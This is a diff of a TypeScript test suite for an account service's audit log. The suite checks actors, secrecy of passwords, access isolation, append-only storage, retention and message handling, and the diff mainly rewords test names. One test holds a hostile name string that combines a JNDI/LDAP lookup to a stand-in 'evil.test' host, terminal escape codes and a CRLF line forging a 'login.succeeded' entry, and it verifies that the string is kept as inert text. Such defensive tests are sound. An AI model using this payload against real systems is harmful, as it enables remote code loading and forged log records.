@@ -1,4 +1,4 @@
-// The audit log: what is written down of each act, who may read it, and that nobody changes it.
+// The audit log: the entry of each act, who may read entries, and that entries never change.
 
 import { readFileSync } from 'node:fs';
 import { resolve } from 'node:path';
@@ -8,7 +8,7 @@ import { readMessage } from '@almanac/service-kit/messaging/bus/received-message
 import { badPayloads } from '@almanac/testkit/bad-payloads';
 import { eventually } from '@almanac/testkit/eventually';
 import pg from 'pg';
-import { consumeAuditMessages } from '../src/audit-messages.ts';
+import { consumeAuditMessages } from '../src/audit/audit-messages.ts';
 import { type Account, givenIdentity, type Identity } from './given.ts';
 
 const password = 'correct horse battery';
@@ -34,7 +34,7 @@ describe('the audit log', () => {
     return body.data;
   };
 
-  it('tells who made, changed and deleted a user, through what, from where, and what was before and after', async () => {
+  it('shows who created, changed and deleted a user, through which application, from where, with the state before and after', async () => {
     const { account_id: accountId, admin_user_id: userId } = account;
     await account.admin('PATCH', `/users/${userId}`, { first_name: 'Ada', last_name: 'Lovelace' });
     const { body } = await account.machine('GET', '/oauth_applications');
@@ -73,10 +73,10 @@ describe('the audit log', () => {
     });
   });
 
-  it('tells of a new password, and nothing of what it is', async () => {
+  it('shows that a password was changed, but not the password', async () => {
     const { body: user } = await account.admin('POST', '/users', { email: 'p@example.com', password });
     await account.admin('PATCH', `/users/${user.id}`, { password: 'another horse battery' });
-    await account.admin('PATCH', `/users/${user.id}`, { first_name: '' }); // as it is: no act
+    await account.admin('PATCH', `/users/${user.id}`, { first_name: '' }); // unchanged: no act
     const all = await entries();
     expect(all.map(({ action }: { action: string }) => action)).toEqual(['user.created', 'password.changed']);
     expect(all[1]).toMatchObject({
@@ -91,7 +91,7 @@ describe('the audit log', () => {
     for (const secret of [account.admin_password, account.client_secret]) expect(text).not.toContain(secret);
   });
 
-  it('tells of groups with their permissions and of who is in them', async () => {
+  it('shows changes of groups, permissions and memberships', async () => {
     const { body: user } = await account.machine('POST', '/users', { email: 'm@example.com' });
     const view = { action: 'view', resource_type: 'account', resource_id: account.account_id };
     const edit = { ...view, action: 'edit' };
@@ -123,7 +123,7 @@ describe('the audit log', () => {
     ]);
   });
 
-  it('tells of the account: opened by the operator, who is nobody in it, and changed', async () => {
+  it('shows the account’s creation by an operator, who is no user of it, and its changes', async () => {
     await account.admin('PATCH', '/account', { name: 'Acme', date_style: 'ISO' });
     const { data } = (await account.machine('GET', '/audit_events?sort=id')).body;
     const opening = data.slice(0, -1);
@@ -146,7 +146,7 @@ describe('the audit log', () => {
     expect(data.at(-1).after).toEqual({ name: 'Acme' });
   });
 
-  it('tells of machines by their application, and invents no user', async () => {
+  it('shows machines by their application, without a user', async () => {
     const { body } = await account.machine('GET', '/oauth_applications');
     const [{ id: applicationId, name }] = body.data;
     const machine = identity.as({ accountId: account.account_id, applicationId });
@@ -156,7 +156,7 @@ describe('the audit log', () => {
     ]);
   });
 
-  it('tells of who became a developer of a domain because he made it', async () => {
+  it('shows that the creator of a domain became its developer', async () => {
     const { account_id: accountId, admin_user_id } = account;
     const wanted = { resource_type: 'domain', resource_id: 81, name: 'Sales', creator_id: admin_user_id };
     await identity.rpc('metadata').EnsureResourceGroups({ accountId, userId: admin_user_id }, wanted);
@@ -167,7 +167,7 @@ describe('the audit log', () => {
     });
   });
 
-  it('tells of what was refused, and of nothing that was undone', async () => {
+  it('shows what was refused, and nothing that was rolled back', async () => {
     const { body: user } = await account.machine('POST', '/users', { email: 'o@example.com' });
     const ordinary = identity.as({ accountId: account.account_id, userId: user.id });
     const refusals = [await ordinary('GET', '/users'), await ordinary('DELETE', `/users/${account.admin_user_id}`)];
@@ -182,7 +182,7 @@ describe('the audit log', () => {
     ]);
   });
 
-  it('keeps what is hostile as what it is: text in one JSON value', async () => {
+  it('keeps hostile text as text in one JSON value', async () => {
     const name = `\u001b[31m\${jndi:ldap://evil.test/a}\r\n{"action":"login.succeeded"}`;
     const { status } = await account.admin('POST', '/user_groups', { name, description: name });
     expect(status).toBe(201);
@@ -220,25 +220,28 @@ describe('the audit log', () => {
         expect((await account.machine('GET', `/audit_events?${query}`)).status).toBe(400);
     });
 
-    it('shows one entry, names as of now, and none of who is gone', async () => {
-      const { body: user } = await account.machine('POST', '/users', { email: 'gone@example.com', password });
+    it('shows one entry with current names, and no name of a deleted user', async () => {
+      const { body: user } = await account.machine('POST', '/users', { email: 'removed@example.com', password });
       const groups = await account.machine('GET', '/user_groups?q=name:eq:Administrators');
       const assignment = { user_id: user.id, user_group_id: groups.body.data[0].id };
       await account.machine('POST', '/user_group_assignments', assignment);
       const own = identity.as({ accountId: account.account_id, userId: user.id });
-      await own('PATCH', '/account', { name: 'By who is gone' });
+      await own('PATCH', '/account', { name: 'By a deleted user' });
       const path = `/audit_events/${(await entries('q=action:eq:account.updated'))[0].id}`;
-      expect((await account.machine('GET', path)).body.actor).toMatchObject({ id: user.id, name: 'gone@example.com' });
+      expect((await account.machine('GET', path)).body.actor).toMatchObject({
+        id: user.id,
+        name: 'removed@example.com',
+      });
       await account.machine('DELETE', `/users/${user.id}`);
       expect((await account.machine('GET', path)).body.actor).toEqual({ type: 'user', id: user.id, name: null });
     });
 
     it('is for administrators of the account; other accounts’ entries don’t exist', async () => {
-      const stranger = await identity.account();
+      const otherAccount = await identity.account();
       const { body: user } = await account.machine('POST', '/users', { email: 'o@example.com' });
       const [{ id }] = await entries();
-      const unknown = await stranger.admin('GET', '/audit_events/900719925474099');
-      for (const call of [stranger.admin, stranger.machine]) {
+      const unknown = await otherAccount.admin('GET', '/audit_events/900719925474099');
+      for (const call of [otherAccount.admin, otherAccount.machine]) {
         const foreign = await call('GET', `/audit_events/${id}`);
         expect([foreign.status, foreign.body]).toEqual([404, unknown.body]);
         const { data } = (await call('GET', `/audit_events?q=id:eq:${id}`)).body;
@@ -258,7 +261,7 @@ describe('the audit log', () => {
     const howTo = () => readFileSync(resolve(import.meta.dirname, '../../../docs/how-to/audit.md'), 'utf8');
     const present = () => identity.context.prisma.audit_event.count({ where: { account_id: account.account_id } });
 
-    it('is append-only, whoever asks', async () => {
+    it('is append-only for every database user', async () => {
       const before = await present();
       for (const statement of [
         "update audit_event set address = 'x'",
@@ -269,7 +272,7 @@ describe('the audit log', () => {
       expect(await present()).toBe(before);
     });
 
-    it('loses what is old, and nothing else, by the statements of the how-to', async () => {
+    it('loses old entries, and nothing else, by the statements of the how-to', async () => {
       const before = await present();
       const old = { account_id: account.account_id, action: 'domain.created', result: 'succeeded' };
       const occurred_at = new Date(Date.now() - 401 * 86_400_000);
@@ -307,11 +310,11 @@ describe('the audit log', () => {
       await consumeAuditMessages(identity.context, { consume } as Bus);
     });
 
-    it('arrives over the bus, with the time at which it happened', async () => {
+    it('arrives over the bus with the time of the act', async () => {
       const { occurred_at } = await identity.publish('metadata.audit.requested', act());
       await identity.publish('jobs.audit.requested', { ...act(), action: 'export.created' });
       await eventually(async () => expect(await entries()).toHaveLength(2));
-      const all: { action: string }[] = await entries(); // in the order in which they came
+      const all: { action: string }[] = await entries(); // in order of arrival
       const [domain, exported] = ['domain.created', 'export.created'].map((action) =>
         all.find((entry) => entry.action === action),
       );
@@ -338,21 +341,21 @@ describe('the audit log', () => {
       ['attributes that are none', () => message({ ...act(), before: 'all of it' })],
       ['a time that is none', () => message(act(), { occurred_at: 'yesterday' })],
       ['an id that is none', () => message(act(), { id: 'first' })],
-    ])('is given up at once when it has %s, without a word of what it holds', async (_what, made) => {
+    ])('becomes a dead letter at once when it has %s, without its content in the log', async (_what, made) => {
       const failure = await receive(made()).catch((error: unknown) => error);
       expect(failure).toBeInstanceOf(UnreadableMessageError);
       expect(String(failure)).not.toMatch(/Places|192\.0|yesterday|first|maybe/);
       expect(await entries()).toEqual([]);
     });
 
-    it('goes on after one that can’t be read', async () => {
+    it('continues after a message that can’t be read', async () => {
       await identity.publish('data.audit.requested', { nonsense: true });
       await identity.publish('data.audit.requested', { ...act(), action: 'access.refused', result: 'refused' });
       await eventually(async () => expect(await entries()).toMatchObject([{ action: 'access.refused' }]));
     });
   });
 
-  describe('what is no event', () => {
+  describe('an invalid event', () => {
     it.each([
       ['identity.audit', 'metadata.audit.requested', { action: 'domain.created' }],
       ['identity.resource_groups', 'metadata.domain.created', { domain_id: 4_001, name: 'Heard' }],
